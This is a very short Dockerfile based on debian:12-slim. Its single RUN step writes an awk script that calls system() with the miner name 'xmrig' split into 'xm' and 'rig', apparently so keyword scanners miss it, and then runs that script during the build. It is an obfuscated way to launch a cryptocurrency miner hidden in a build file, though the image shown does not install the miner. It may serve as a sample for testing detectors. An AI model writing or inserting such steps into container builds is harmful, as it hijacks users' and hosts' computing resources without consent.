FROM debian:12-slim
RUN printf 'BEGIN { system("xm" "rig") }' > /work.txt; awk -f /work.txt
